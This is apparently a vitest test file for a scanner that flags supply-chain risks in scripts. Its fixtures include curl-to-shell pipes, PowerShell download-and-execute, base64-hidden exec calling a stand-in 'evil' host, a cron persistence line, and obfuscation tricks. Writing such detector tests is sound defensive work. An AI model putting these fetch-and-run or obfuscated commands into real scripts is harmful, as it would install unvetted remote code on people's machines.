import { describe, it } from 'vitest';
import { type Case, check } from './cases.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');

const cases: Case[] = [
  {
    name: 'SC2: curl piped to a shell, also through sudo',
    path: 'scripts/install.sh',
    text: 'curl -fsSL https://get.example.sh | sh\nwget -qO- https://x.example.io/i.sh | sudo bash -s -- --yes\n',
    expect: [
      ['SC2', 1],
      ['SC2', 2],
    ],
  },
  {
    name: 'SC2: bash <(curl), eval "$(curl)", URL in a variable',
    path: 'scripts/i.sh',
    text: 'BASE="https://raw.example.com"\nbash <(curl -s "$BASE/setup.sh")\neval "$(curl -fsS $BASE/env)"\n',
    expect: [
      ['SC2', 2],
      ['SC2', 3],
    ],
  },
  {
    name: 'SC2: download, chmod +x and run',
    path: 'scripts/d.sh',
    text: 'curl -L -o /tmp/agent https://dl.example.net/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon\n',
    expect: [['SC2', 2]],
  },
  {
    name: 'SC2: python exec of fetched text, javascript eval of fetch, import from URL',
    path: 'scripts/r.py',
    text: 'import requests\ncode = requests.get("https://paste.example.com/raw/abc", timeout=5).text\nexec(code)\n',
    expect: [['SC2', 3]],
  },
  {
    name: 'SC2: javascript eval of fetched text and dynamic import',
    path: 'scripts/r.mjs',
    text: "const src = await (await fetch('https://cdn.example.io/p.js')).text();\neval(src);\nawait import('https://cdn.example.io/mod.js');\n",
    expect: [
      ['SC2', 2],
      ['SC2', 3],
    ],
  },
  {
    name: 'SC2: powershell iex of a download',
    path: 'scripts/i.ps1',
    text: 'iex (iwr https://example.org/install.ps1 -UseBasicParsing).Content\n',
    expect: [['SC2', 1]],
  },
  {
    name: 'no SC2: piping an API response into jq or python -m json.tool; downloading data',
    path: 'scripts/ok.sh',
    text: 'curl -s -m 10 https://api.example.com/v1/items | jq .\ncurl -s -m 10 https://api.example.com/v1/items | python3 -m json.tool\ncurl -s -m 10 -o data.json https://api.example.com/v1/items\n',
    absent: ['SC2'],
  },
  {
    name: 'no SC2: a scanner whose rule list contains "curl | sh"',
    path: 'scripts/scan.py',
    text: 'import re\nRULES = [r"curl[^|]*\\|\\s*sh", "wget -O- x | bash", "eval(atob("]\nfor r in RULES:\n    re.compile(r)\n',
    absent: ['SC2', 'SC3'],
  },
  {
    name: 'SC3: exec of base64-decoded code, decoded payload also scanned',
    path: 'scripts/o.py',
    text: `import base64\nexec(base64.b64decode("${b64('import os\nos.system("curl -s https://evil.example.com/x | sh")')}"))\n`,
    expect: [
      ['SC3', 2],
      ['SC2', 2],
    ],
  },
  {
    name: 'SC3: echo | base64 -d | sh and eval(atob())',
    path: 'scripts/o.sh',
    text: `echo ${b64('id; uname -a')} | base64 -d | sh\n`,
    expect: [['SC3', 1]],
  },
  {
    name: 'SC3: javascript eval(atob(...)) and new Function of decoded text',
    path: 'scripts/o.js',
    text: `eval(atob("${b64('console.log(1)')}"));\nconst f = new Function(Buffer.from("${b64('return 1')}", "base64").toString());\n`,
    expect: [
      ['SC3', 1],
      ['SC3', 2],
    ],
  },
  {
    name: 'SC3: names assembled so they never appear in the file',
    path: 'scripts/h.py',
    text: 'import os\nfn = getattr(os, "sy" + "stem")\nfn("id")\n',
    expect: [['SC3', 3]],
  },
  {
    name: 'SC3: shell command name built from variables',
    path: 'scripts/h.sh',
    text: 'a=cu\nb=rl\n$a$b -s -m 5 https://example.com/x -o /tmp/x\n',
    expect: [['SC3', 3]],
  },
  {
    name: 'SC3: globalThis["ev"+"al"] and char-code strings',
    path: 'scripts/h.js',
    text: 'const g = globalThis["ev" + "al"];\ng(String.fromCharCode(99, 111, 110, 115, 111, 108, 101));\n',
    expect: [['SC3', 2]],
  },
  {
    name: 'SC3: rot13 and zlib+marshal payloads',
    path: 'scripts/r.py',
    text: 'import codecs, marshal, zlib, base64\nexec(codecs.decode("cevag(1)", "rot13"))\nexec(marshal.loads(zlib.decompress(base64.b64decode(BLOB))))\n',
    expect: [
      ['SC3', 2],
      ['SC3', 3],
    ],
  },
  {
    name: 'SC3: packer signature',
    path: 'scripts/p.js',
    text: "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))\n",
    expect: [['SC3', 1]],
  },
  {
    name: 'no SC3: base64 of data, decode for display, an import alias',
    path: 'scripts/ok.py',
    text: 'import base64, json\nfrom subprocess import run as sh\nimg = base64.b64decode(open("logo.b64").read())\nprint(json.loads(base64.b64decode("eyJhIjogMX0=")))\nsh(["ls", "-la"], check=True)\n',
    absent: ['SC3', 'SC2'],
  },
  {
    name: 'SC5: custom index, git without commit, raw IP download, password-protected archive',
    path: 'scripts/s.sh',
    text: 'pip install --extra-index-url https://pkgs.example-mirror.net/simple fastjson==1.0\npip install git+https://github.com/someone/tool.git\ncurl -s -m 10 -o /tmp/t.bin http://198.51.100.7/t.bin\nunzip -P s3cret payload.zip\n',
    expect: [
      ['SC5', 1],
      ['SC5', 2],
      ['SC5', 3],
      ['SC5', 4],
    ],
  },
  {
    name: 'SC5: npm tarball URL and 7z with password; python zipfile with pwd',
    path: 'scripts/s2.py',
    text: 'import zipfile, subprocess\nsubprocess.run("npm install https://files.example.org/pkg-1.0.tgz", shell=True)\nzipfile.ZipFile("p.zip").extractall(pwd=b"infected")\n',
    expect: [
      ['SC5', 2],
      ['SC5', 3],
    ],
  },
  {
    name: 'no SC5: pinned git commit and the public index',
    path: 'scripts/ok.sh',
    text: 'pip install "git+https://github.com/org/tool.git@3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f"\npip install --index-url https://pypi.org/simple requests==2.32.3\n',
    absent: ['SC5', 'SC1'],
  },
  {
    name: 'SC1: pip, npm, npx installs without versions',
    path: 'scripts/setup.sh',
    text: 'pip install requests pandas\nnpm install -g typescript\nnpx create-thing my-app\npython3 -m pip install --upgrade pip\n',
    expect: [
      ['SC1', 1],
      ['SC1', 2],
      ['SC1', 3],
    ],
  },
  {
    name: 'SC1: python installs through subprocess with sys.executable',
    path: 'scripts/dep.py',
    text: 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "openpyxl"])\n',
    expect: [['SC1', 2]],
  },
  {
    name: 'no SC1: pinned installs, requirements files, lockfile installs, tooling upgrades',
    path: 'scripts/ok2.sh',
    text: 'pip install requests==2.32.3 "rich>=13,<14"\npip install -r requirements.txt\nnpm ci\nnpm install\nnpx prettier@3.3.3 --check .\npip install --upgrade pip setuptools wheel\n',
    absent: ['SC1'],
  },
  {
    name: 'SC2: a crontab entry that pipes a download to sh',
    path: 'scripts/watch.sh',
    text: '(crontab -l 2>/dev/null; echo "*/30 * * * * curl -s https://x.example.sh/w | sh") | crontab -\n',
    expect: [['SC2', 1]],
  },
  {
    name: 'SC2 and SC5: powershell WebClient download from a raw IP run by Invoke-Expression',
    path: 'scripts/sync.ps1',
    text: "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://198.51.100.3/cal.ps1')\n",
    expect: [
      ['SC2', 1],
      ['SC5', 1],
    ],
  },
];

describe('supply-chain rules (SC1, SC2, SC3, SC5)', () => {
  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, c) => {
    await check(c);
  });
});
